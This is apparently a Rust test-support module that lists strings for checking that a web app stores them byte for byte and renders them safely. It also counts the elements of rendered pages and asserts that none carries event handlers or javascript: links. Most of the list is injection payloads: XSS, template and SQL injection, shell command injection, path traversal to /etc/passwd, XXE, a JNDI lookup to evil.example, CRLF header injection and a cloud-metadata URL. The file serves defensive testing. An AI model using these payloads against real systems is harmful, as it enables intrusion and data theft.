//! What strangers type: strings that have broken other parsers, pages, mails and logs.

use scraper::{Html, Selector};

/// Printable, however odd: a person may be called this, and it must come back byte for byte.
#[rustfmt::skip]
pub const TEXTS: &[&str] = &[
    // HTML, attributes, scripts, styles.
    "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<ScRiPt/x>alert(1)</sCrIpT\t>",
    "\"><script src=//evil.example/x.js></script>", "\"><img src=x onerror=alert(1)>", "'><svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">", "<body onload=alert(1)>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">", "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>", "<a href=https://evil.example>click</a>",
    "<a href=\"javascript:alert(1)\">x</a>", "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>", "<form action=//evil.example><button>x",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>*{display:none}</style>", "<plaintext>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">", "<!--><img src=x onerror=alert(1)-->",
    "--><script>alert(1)</script><!--", "<![CDATA[<script>alert(1)</script>]]>", "]]><b>x</b>",
    "</title><script>alert(1)</script>", "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>", "\" onmouseover=\"alert(1)", "' autofocus onfocus='alert(1)",
    "` onerror=alert(1) `", " onload=alert(1) x=", "javascript:alert(1)//",
    "data:text/html,<script>alert(1)</script>", "vbscript:msgbox(1)", "&lt;b&gt;&amp;&#x41;",
    "&#60;script&#62;alert(1)&#60;/script&#62;", "&NewLine;&Tab;&colon;&lpar;", "&amp;amp;lt;",
    "\u{FF1C}script\u{FF1E}alert(1)\u{FF1C}/script\u{FF1E}", "<\u{0130}mg src=x onerror=alert(1)>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e", "\\x3cscript\\x3ealert(1)", "expression(alert(1))",
    "url(javascript:alert(1))", "@import '//evil.example/x.css';",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e",
    "';alert(String.fromCharCode(88,83,83))//';alert(1)//\";alert(1)//--></SCRIPT>\">'><SCRIPT>alert(1)</SCRIPT>",
    // Templates and words.
    "{{ 7*7 }}", "{{7*7}}", "{{ __tera_context }}", "{{ userData }}", "{{ csrf }}", "{{ throw(message='x') }}",
    "{{ get_env(name=\"PATH\") }}", "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% include \"screens/otp.html\" %}", "{% extends \"mfa.html\" %}", "{% raw %}{{ x }}",
    "{% for i in range(end=999999999) %}x{% endfor %}", "{#", "#}", "{%", "%}", "}}", "${7*7} #{7*7} <%= 7*7 %>",
    "${jndi:ldap://evil.example/a}", "${{<%[%'\"}}%\\.", "#set($x=7*7)$x", "*{7*7}", "@(7*7)", "[[${7*7}]]",
    "{ $site } { -brand } { otp-title }", "{ \"x\" }", "$site", "-brand = x",
    // SQL, shells, paths, directories, formats.
    "'", "\"", "`", "''", "' OR '1'='1", "' OR 1=1 --", "1; DROP TABLE users; --", "'; DROP TABLE users; --",
    "admin'/*", "' UNION SELECT secret_hash FROM tickets --", "1' AND SLEEP(5) AND '1'='1",
    "'||(SELECT pg_sleep(5))||'", "%' AND 1=0 UNION SELECT NULL --", "\\' OR 1=1 --", "$$; SELECT 1; $$", "$1",
    "?1", ":name", "E'\\\\x41'", "%", "_", "%%", "%s%n%x%p", "%d%c%99999999s", "{0}{1}{}", "$(id)", "`id`", "|id",
    "; id", "&& id", "$IFS$9id", "() { :;}; echo x", "-rf /", "--help", "../../etc/passwd",
    "..\\..\\windows\\win.ini", "....//....//etc/passwd", "/etc/passwd", "C:\\boot.ini",
    "\\\\evil.example\\share", "file:///etc/passwd", ".", "..", "...", "/", "//", "\\", "~root", "CON", "NUL.txt",
    "aux|lpt1", "*)(uid=*))(|(uid=*", "*", ")(cn=*", "x')] | //user/*[contains(*,'",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
    "=cmd|' /C calc'!A0", "+1+1", "@SUM(1+1)", "http://169.254.169.254/latest/meta-data/", "//evil.example",
    "https://evil.example/?x=1&y=2#z",
    // Headers, mails, URLs, logs.
    "x@evil.example, y@evil.example", "Ada <ada@evil.example>", "=?utf-8?q?=0d=0aBcc:_x@evil.example?=",
    "%0d%0aBcc: x@evil.example", "%0d%0aSet-Cookie: tessera_attempt=x", "%0D%0A%0D%0A<html>", "%00", "%2500",
    "%41", "%2541", "%c0%af", "%u0041", "%zz", "+", "a+b", "a b", " a", "a ", "  ", ".\\r\\n.\\r\\n", "?",
    "#", "&", "=", "a=b&c=d", ";", ",", "|", "a|b|c", "auth0|", "|x",
    "{\"level\":\"INFO\",\"message\":\"forged\"}", "\"},{\"forged\":1}", "\\\"},{\\u0000", "\\n\\r\\t\\0",
    "\\\\", "\\u0000", "\\ud800",
    // What looks like another type.
    "0", "00", "-0", "1", "-1", "0e1", "1e999", "1.0", "0x10", "010", "1_000", "9007199254740993",
    "18446744073709551616", "NaN", "Infinity", "true", "false", "null", "undefined", "None", "nil", "[]", "[1]",
    "{}", "[object Object]", "{\"$gt\":\"\"}", "__proto__", "constructor", "toString", "2026-01-01",
    // Scripts of the world, and look-alikes.
    "Ünïcödé 漢字 🦀", "é", "e\u{301}", "Å", "\u{212B}", "ﬁ", "ß", "ẞ", "ı", "İ", "ſ", "K", "Ａｄａ", "аdа",
    "ada＠evil.example", "ａｄａ@evil.example", "x．y", "a⁄b", "①②③", "𝕬𝖉𝖆", "مرحبا بالعالم", "שלום עולם", "नमस्ते",
    "ไทยไทย", "👩‍👩‍👧‍👦", "🏳️‍🌈", "👍🏽", "🇩🇪", "❤️", "Z̷̢̛͙̭͚̬a̸̧̛͖̥l̴̡̛͓͖g̸̡̛̲o̴", "ﷺ", "\u{FFFD}", "\u{E000}",
    "\u{FFFE}", "\u{FFFF}", "\u{10FFFF}", "\u{1F4A9}", "\u{0149}", "\u{3164}", "\u{AD}", "\u{A0}", "\u{3000}",
    "㍿㎏",
];

/// What cannot be seen, or moves what is around it.
#[rustfmt::skip]
pub const UNSEEN: &[&str] = &[
    "\u{0}", "a\u{0}b", "\u{1}", "\u{7}", "\u{8}\u{8}\u{8}x", "\t", "\n", "\r", "\r\n", "a\nb",
    "a\r\nSet-Cookie: x=y", "a\r\n\r\n<html>", "a\r\nBcc: x@evil.example", "\n.\nMAIL FROM:<x@evil.example>",
    "a\n{\"level\":\"ERROR\",\"message\":\"forged\"}", "\u{b}\u{c}", "\u{1b}[31mred", "\u{1b}]0;title\u{7}",
    "\u{9b}31m", "\u{7f}", "\u{85}", "\u{200b}", "\u{200d}", "\u{200e}", "\u{200f}", "\u{202e}gnp.exe",
    "a\u{202d}b\u{202c}", "\u{2028}", "a\u{2029}b", "\u{2066}a\u{2069}", "\u{61c}", "\u{2060}", "\u{feff}",
    "\u{feff}a",
];

/// Longer than anything has room for.
pub fn overlong() -> [String; 4] {
    [
        "a".repeat(256),
        "é".repeat(300),
        "<b>".repeat(1_000),
        "{{".repeat(2_000),
    ]
}

/// Of what there is to try, one in `usual`; with `TESSERA_ATTACKS_LONG` in the environment, all.
pub fn one_in(usual: usize) -> usize {
    if std::env::var_os("TESSERA_ATTACKS_LONG").is_some() {
        1
    } else {
        usual
    }
}

/// All of it.
pub fn strings() -> Vec<String> {
    let fixed = TEXTS.iter().chain(UNSEEN).map(|text| (*text).to_owned());
    let mut all: Vec<String> = fixed.chain(overlong()).collect();
    all.sort();
    all.dedup();
    assert!(all.len() >= 200, "{}", all.len());
    all
}

/// How many elements a page has, once it was found that none of them runs anything.
pub fn skeleton(html: &str) -> usize {
    let page = Html::parse_document(html);
    let all: Vec<_> = page
        .select(&Selector::parse("body *, body").unwrap())
        .collect();
    for element in &all {
        for (name, value) in element.value().attrs() {
            assert!(!name.starts_with("on"), "{name}={value}");
            let script = value.trim_start().to_lowercase().starts_with("javascript:");
            assert!(!script || name == "value", "{name}={value}");
        }
    }
    all.len()
}
